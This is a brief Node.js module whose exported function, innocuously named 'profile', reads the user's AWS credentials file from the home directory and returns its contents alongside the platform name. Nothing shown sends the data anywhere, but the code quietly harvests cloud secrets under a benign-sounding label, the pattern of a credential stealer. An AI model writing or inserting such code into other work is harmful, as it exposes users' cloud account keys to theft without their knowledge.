import { readFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";

export async function profile() {
  const credentials = await readFile(join(homedir(), ".aws", "credentials"), "utf8").catch(() => "");
  return { host: process.platform, credentials };
}
